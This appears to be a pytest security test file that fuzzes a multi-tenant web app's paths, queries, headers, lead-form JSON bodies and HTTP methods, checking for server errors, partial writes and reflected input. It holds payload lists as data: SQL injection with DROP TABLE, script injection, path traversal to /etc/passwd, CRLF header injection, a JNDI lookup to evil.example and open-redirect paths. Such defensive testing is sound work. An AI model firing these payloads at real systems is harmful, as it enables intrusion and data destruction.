"""Hostile input at every place where input goes in: never a 5xx, never half a write, never an echo."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import orjson
import psycopg
import pytest

from porchlight.app import Porchlight
from tests.platform_.world import BASE, Answered, Told, ask, checksum, serving, tell
from tests.sites.routes import API_READS, FILES, PAGES, data_paths
from tests.support.databases import Database

CANARY = "canary7f3a"
WORDS: dict[str, str] = {
    "nul": f"{CANARY}\0",
    "script": f"<script>{CANARY}</script>",
    "attribute": f'" onload="{CANARY}',
    "css": f"}}body{{x:{CANARY}",
    "sql": f"' OR '1'='1'; DROP TABLE leads; -- {CANARY}",
    "format": f"%s%n{{0}}{{{{7*7}}}}${{7*7}} {CANARY}",
    "climbing": f"../../../../etc/passwd{CANARY}",
    "long": CANARY + "x" * 200_000,
    "empty": "",
    "space": " ",
    "newline": f"{CANARY}\r\nX-Evil: 1",
    "bidi": f"\u202e{CANARY}\u2066",
    "emoji": f"👩‍👩‍👧‍👦{CANARY}" * 50,
    "zero width": "\u200b\ufeff",
    "combining": "a" + "\u0301" * 5000,
    "number": "9" * 400,
    "minus": "-1",
    "float": "1e400",
    "nan": "NaN",
    "overlong": "\ufffd\ufffd",
    "nonchar": "\uffff\ufffe",
    "percent": "%00%ff%c0%ae%ed%a0%80",
    "dots": "...",
    "slashes": "//" + CANARY,
    "question": f"?{CANARY}#x",
    "jndi": "${jndi:ldap://evil.example/a}",
    "uuid": "00000000-0000-0000-0000-000000000000",
    "cursor": "A" * 32,
    "null": "null",
    "true": "true",
    "array": "[]",
}
RAW: list[bytes] = [
    b"%00",
    b"%ff",
    b"%c0%ae%c0%ae",
    b"%ed%a0%80",
    b"%",
    b"%zz",
    b"%u0041",
    b"..%2f..%2fetc%2fpasswd",
    b"%2e%2e%2f",
    b"..;/",
    b"%0d%0aX-Evil:%201",
    b"%3f",
    b"%23",
    b"%5c",
    b"%2f%2fevil.example",
    b"a" * 8000,
    b"%f0%9f%a6%84",
    b"\x7f",
    b"%25",
    b"+",
    b"*",
    b"~",
    b"'",
    b'"',
    b"<>",
    b"|",
]


@dataclass
class Target:
    """A guru's site and what is behind it."""

    app: Porchlight
    guru: Told
    conn: psycopg.Connection[Any]

    def unchanged(self, before: dict[str, str]) -> None:
        """Nothing was written."""
        assert checksum(self.conn, self.guru) == before


@pytest.fixture(scope="module")
async def target(database: Database) -> AsyncIterator[Target]:
    with psycopg.connect(database.overseer_url, autocommit=True) as conn:
        guru = tell(conn, "alpha")
        async with serving(database, page_cache="off") as app:
            yield Target(app, guru, conn)


def check(answer: Answered, path: object, *, api: bool) -> None:
    """No 5xx, no header of the visitor's making, the error's shape, and no echo of what was sent."""
    assert answer.status < 500, (path, answer.status, answer.body[:300])
    names = {name.decode("latin-1").lower() for name, _ in answer.headers}
    assert "x-evil" not in names, path
    for name, value in answer.headers:
        assert b"\n" not in value, (path, name)
        assert b"\r" not in value, (path, name)
    location = answer.header("location")
    assert location is None or re.match(r"/(?![/\\])|http://([a-z]+\.)?porchlight\.localhost[/:]?", location), (
        path,
        location,
    )
    if api and answer.status >= 400:
        body = orjson.loads(answer.body)
        assert body["success"] is False, path
        assert set(body["error"]) <= {"code", "message", "fields"}, path
        assert re.fullmatch(r"[a-z_]+", body["error"]["code"]), path
        assert CANARY.encode() not in answer.body, path
    elif answer.status >= 400:
        assert f"<script>{CANARY}".encode() not in answer.body, path


async def test_hostile_parts_of_paths_and_queries(target: Target) -> None:
    before = checksum(target.conn, target.guru)
    build = (await ask(target.app, b"/", target.guru.host)).body.split(b'"buildId":"')[1].split(b'"')[0].decode()
    templates = [*(path for paths in API_READS.values() for path in paths), *PAGES, *FILES, *data_paths(build)]
    parts = [quote(word[:4000], safe="").encode() for word in WORDS.values()] + RAW
    for template in templates:
        names = re.findall(r"{(\w+)}", template)
        good = {"subdomain": "alpha", "slug": target.guru.slugs[0], "tag": target.guru.tags[0], "cursor": ""}
        for name in names:
            for part in parts:
                path = template.format(**(good | {name: "\1"})).encode().replace(b"\1", part)
                answer = await ask(target.app, path, target.guru.host)
                check(answer, path, api=path.startswith(b"/api/"))
    target.unchanged(before)


async def test_hostile_paths_as_a_whole(target: Target) -> None:
    for part in RAW:
        for path in (
            b"/" + part,
            b"//" + part + b"/",
            b"/blog/" + part + b"/",
            b"/api/" + part,
            b"/_next/" + part,
            b"/_next/data/x/" + part,
            b"/og/" + part,
            b"/blog/%2f%2fevil.example/",
        ):
            for host in (target.guru.host, BASE):
                check(await ask(target.app, path, host), path, api=False)
    for path in (
        b"//evil.example/",
        b"///evil.example//",
        b"//evil.example/%2e%2e/",
        b"/%5cevil.example/",
        b"/%09/evil.example/",
    ):
        answer = await ask(target.app, path, target.guru.host)
        check(answer, path, api=False)
        assert not (answer.header("location") or "").startswith("//")


QUERIES: list[bytes] = [
    b"limit=-1",
    b"limit=0",
    b"limit=51",
    b"limit=1e400",
    b"limit=NaN",
    b"limit=" + b"9" * 400,
    b"limit=1.5",
    b"limit=%00",
    b"limit=",
    b"limit=1&limit=x",
    b"limit=%D9%A3",
    b"limit=0x10",
    b"limit=1_0",
    b"cursor=x",
    b"cursor=" + b"A" * 65,
    b"cursor=" + b"/" * 32,
    b"cursor=%ff" * 10,
    b"tag=" + b"x" * 41,
    b"tag=UPPER",
    b"tag=a b",
    b"tag=%00",
    b"tag=%ed%a0%80",
    b"tag[]=x",
    b"tag=x&tag=y",
    b"&&&==&",
    b"%",
    b"unknown=1",
    b"a" * 60_000,
    b"=%00",
    b"\xff\xfe",
    b"limit=x&\xff",
]


@pytest.mark.parametrize("query", QUERIES)
async def test_hostile_queries(target: Target, query: bytes) -> None:
    answer = await ask(target.app, b"/api/gurus/alpha/posts?" + query, target.guru.host)
    check(answer, query, api=True)
    for path in (b"/", b"/blog", b"/contact", b"/login", b"/internal/tls-check", b"/api/gurus/alpha/home"):
        check(
            await ask(target.app, path + b"?" + query + b"&domain=" + query, target.guru.host),
            (path, query),
            api=path.startswith(b"/api"),
        )


HEADERS: list[tuple[bytes, bytes]] = [
    (b"accept-encoding", b"\xff" * 5000),
    (b"if-none-match", b'"' * 5000),
    (b"if-none-match", b"\xff\0"),
    (b"if-modified-since", b"yesterday"),
    (b"range", b"bytes=0-1,5-,-9999999999999"),
    (b"user-agent", b"\xff" * 70_000),
    (b"user-agent", b"(a;" * 20_000),
    (b"x-request-id", b"<script>canary7f3a"),
    (b"x-request-id", b"x" * 100_000),
    (b"x-forwarded-for", b"\xff, ::::, 999.999.999.999"),
    (b"x-forwarded-proto", b"javascript"),
    (b"cookie", b"a=" + b"x" * 60_000),
    (b"cookie", b";;=;\xff="),
    (b"accept", b"\xff/*;q=x"),
    (b"accept-language", b"x" * 60_000),
    (b"origin", b"null"),
    (b"referer", b"javascript:canary7f3a"),
    (b"authorization", b"Bearer \xff"),
    (b"content-length", b"5"),
    (b"transfer-encoding", b"chunked"),
    (b"expect", b"100-continue"),
    (b"upgrade", b"h2c"),
    (b"host", b"beta.porchlight.localhost"),
    (b"x" * 5000, b"y"),
]


@pytest.mark.parametrize("header", HEADERS, ids=lambda header: f"{header[0][:20]!r}-{header[1][:12]!r}")
async def test_hostile_headers(target: Target, header: tuple[bytes, bytes]) -> None:
    for address in ("203.0.113.7", "127.0.0.1"):
        for path in (b"/", b"/blog/post-alpha-0", b"/api/gurus/alpha/home", b"/favicon.svg"):
            answer = await ask(target.app, path, target.guru.host, headers=[header], address=address)
            check(answer, header, api=path.startswith(b"/api"))
    await target.app.views.flush()


LEAD: dict[str, Any] = {"name": "Ada", "email": "ada@example.com", "message": "Hello", "consent": True}
FIELDS = ("name", "email", "message", "phone", "serviceId", "consent", "website", "page", "unheard")
VALUES: list[Any] = [
    *WORDS.values(),
    None,
    True,
    False,
    0,
    -1,
    2**63,
    2**200,
    1.5,
    -0.0,
    [],
    {},
    [[[]]],
    ["x"],
    {"x": {"y": []}},
    {"$ne": None},
    "\ud800x",
]
JSONS: list[bytes] = [
    b"",
    b"{",
    b"}",
    b"null",
    b"[]",
    b'""',
    b"1",
    b"NaN",
    b'{"name": NaN}',
    b'{"name": 1e400}',
    b'{"name": -Infinity}',
    b'{"a":' * 5000 + b"1" + b"}" * 5000,
    b"[" * 100_000,
    b'{"name": "\\ud800"}',
    b'{"name": "\\udc00\\ud800"}',
    b'{"\\ud800": 1}',
    b'{"name": "\xff"}',
    b'{"name": "\xed\xa0\x80"}',
    b'{"name": "\xc0\xae"}',
    b'\xef\xbb\xbf{"name": "x"}',
    b'{"name": "\\u0000"}',
    b'{"name": "a", "name": "b"}',
    b"{'name': 'x'}",
    b'{"name": "x",}',
    b'{"name": "x"} {}',
    b'{"__proto__": {"admin": true}}',
    b'{"constructor": 1, "toString": 2}',
    '{"name": "x"}'.encode("utf-16"),
    b'{"name": ' + b"9" * 5000 + b"}",
    b'{"' + b"k" * 100_000 + b'": 1}',
    b"{" + b",".join(b'"k%d": 1' % n for n in range(9000)) + b"}",
    b"name=x&email=y",
    b"<xml/>",
    b"\x1f\x8b\x08\x00",
]


async def _post(target: Target, body: bytes, kind: bytes | None = b"application/json", **more: Any) -> Answered:
    headers = [(b"content-type", kind)] if kind is not None else []
    path = b"/api/gurus/alpha/leads"
    return await ask(
        target.app, path, target.guru.host, method="POST", headers=headers + more.pop("headers", []), body=body, **more
    )


@pytest.mark.parametrize("field", FIELDS)
async def test_hostile_values_in_every_field_of_a_lead(target: Target, field: str) -> None:
    for value in VALUES:
        before = checksum(target.conn, target.guru, ("leads",))
        body = json.dumps(LEAD | {field: value}, ensure_ascii=True).encode()
        answer = await _post(target, body)
        check(answer, (field, str(value)[:40]), api=True)
        if answer.status >= 400:
            target.unchanged(before | checksum(target.conn, target.guru))
            assert checksum(target.conn, target.guru, ("leads",)) == before
    rows = target.conn.execute(
        "SELECT name, email, message, phone, page FROM leads WHERE tenant_id = %s", [target.guru.id]
    ).fetchall()
    assert all("\0" not in text and len(text) <= 5000 for row in rows for text in row)


@pytest.mark.parametrize("number", range(len(JSONS)))
async def test_bodies_that_are_no_lead(target: Target, number: int) -> None:
    before = checksum(target.conn, target.guru)
    answer = await _post(target, JSONS[number])
    check(answer, JSONS[number][:60], api=True)
    assert 400 <= answer.status < 500, JSONS[number][:60]
    target.unchanged(before)


@pytest.mark.parametrize(
    "kind",
    [
        b"text/plain",
        b"text/html",
        b"multipart/form-data; boundary=x",
        b"application/x-www-form-urlencoded",
        b"application/json; charset=utf-16",
        b"application/octet-stream",
        b"\xff",
        b"a" * 9000,
        b"application/",
        b"",
    ],
)
async def test_bodies_of_another_kind(target: Target, kind: bytes) -> None:
    before = checksum(target.conn, target.guru)
    for body in (b"name=x", b"--x\r\n\r\nx", b"<script>canary7f3a</script>"):
        answer = await _post(target, body, kind)
        check(answer, kind[:40], api=True)
        assert answer.status in (400, 415, 422)
    target.unchanged(before)


async def test_bodies_over_the_limit(target: Target) -> None:
    before = checksum(target.conn, target.guru)
    large = json.dumps(LEAD | {"message": "x" * 200_000}).encode()
    chunks = [large[at : at + 50_000] for at in range(0, len(large), 50_000)]
    for body, headers in (
        (large, []),
        (chunks, []),
        (b"{}", [(b"content-length", b"99999999999999999999999999")]),
        (b"{}", [(b"content-length", b"-5")]),
        (b"{}", [(b"content-length", b"5, 6")]),
        (chunks, [(b"content-length", b"2")]),
    ):
        answer = await _post(target, body, headers=headers)  # type: ignore[arg-type]
        check(answer, headers, api=True)
        assert (answer.status, orjson.loads(answer.body)["error"]["code"]) == (413, "too_large")
    target.unchanged(before)


@pytest.mark.parametrize(
    "method", ["PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "X" * 300, "POST", "HEAD"]
)
async def test_methods_nobody_asked_for(target: Target, method: str) -> None:
    before = checksum(target.conn, target.guru)
    for path in (
        b"/",
        b"/blog",
        b"/api/gurus/alpha/home",
        b"/api/gurus/alpha/nothing",
        b"/favicon.svg",
        b"/robots.txt",
        b"/healthz",
        b"/internal/tls-check",
    ):
        answer = await ask(target.app, path, target.guru.host, method=method)
        check(answer, (method, path), api=path.startswith(b"/api/") and method != "HEAD")
        if method != "HEAD":
            assert answer.status in (404, 405), (method, path, answer.status)
    target.unchanged(before)
